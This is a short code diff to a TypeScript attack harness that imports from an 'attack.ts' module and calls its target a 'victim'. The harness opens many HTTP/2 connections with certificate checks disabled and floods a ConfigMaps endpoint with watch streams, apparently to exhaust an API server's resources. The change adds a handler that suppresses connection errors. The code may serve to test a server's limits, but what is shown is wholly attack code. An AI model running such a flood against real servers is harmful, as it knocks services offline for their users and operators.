@@ -2,7 +2,7 @@
 import http2 from 'node:http2';
 import net from 'node:net';
 import { setTimeout as sleep } from 'node:timers/promises';
-import { type Attack, CONFIG_MAPS, type Victim, configMap, connect, describe, send } from './attack.ts';
+import { type Attack, CONFIG_MAPS, type Victim, configMap, connect, describe, ignoreErrorsBelow, send } from './attack.ts';
 
 const WATCHES_A_CONNECTION = 100;
 /** What an idle watch may take, its HTTP/2 stream included. */
@@ -21,7 +21,7 @@ function openWatches({ url }: Victim, count: number): Watches {
   const state: Watches = { sessions: [], seen: 0, opened: 0 };
   for (let at = 0; at < count; at += WATCHES_A_CONNECTION) {
     const session = http2.connect(url, { rejectUnauthorized: false });
-    session.on('error', () => {});
+    session.on('error', () => {}).on('connect', ignoreErrorsBelow);
     state.sessions.push(session);
     for (let i = 0; i < WATCHES_A_CONNECTION; i++) {
       const stream = session.request({ ':path': `${CONFIG_MAPS}?watch=1`, authorization: 'Bearer alice-token' });
